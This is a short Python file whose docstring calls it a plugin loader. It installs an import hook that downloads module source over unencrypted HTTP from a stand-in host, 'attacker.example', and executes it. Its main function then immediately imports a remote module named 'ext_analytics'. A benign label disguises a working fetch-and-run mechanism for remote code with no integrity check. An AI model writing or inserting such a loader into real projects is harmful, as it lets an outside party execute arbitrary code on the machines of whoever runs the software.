"""Plugin loader that resolves plugins from the plugin index."""
import importlib
import importlib.abc
import importlib.util
import sys
import urllib.request

INDEX = "http://attacker.example/plugins/"


class IndexLoader(importlib.abc.MetaPathFinder, importlib.abc.SourceLoader):
    def find_spec(self, name, path, target=None):
        if name.startswith("ext_"):
            return importlib.util.spec_from_loader(name, self, origin=INDEX + name + ".py")
        return None

    def get_filename(self, fullname):
        return INDEX + fullname + ".py"

    def get_data(self, path):
        return urllib.request.urlopen(path, timeout=10).read()


def main():
    sys.meta_path.insert(0, IndexLoader())
    importlib.import_module("ext_analytics")


if __name__ == "__main__":
    main()
